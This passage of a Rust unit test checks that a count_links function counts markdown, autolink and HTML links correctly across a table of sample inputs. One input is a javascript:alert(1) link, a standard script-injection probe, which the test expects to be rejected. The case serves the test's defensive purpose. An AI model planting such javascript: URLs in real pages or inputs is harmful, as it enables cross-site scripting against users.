        ("```\nhttps://a.example\nhttps://b.example\n```", 2),
        ("<a href=\"https://raw.example\">x</a>", 1),
        ("[x](javascript:alert(1))", 0),
        ("[x](/relative) [y](#frag)", 0),
        ("![img](https://img.example/a.png)", 0),
        ("http:// alone", 0),
        ("nothttps://glued.example", 0),
        ("*https://a.example* **http://b.example**", 2),
        (
            "[a](https://a.example) https://b.example <https://c.example> [d][d]\n\n[d]: http://d.example",
            4,
        ),
    ];
    for (input, want) in cases {
        assert_eq!(count_links(input), *want, "{input:?}");
    }
}
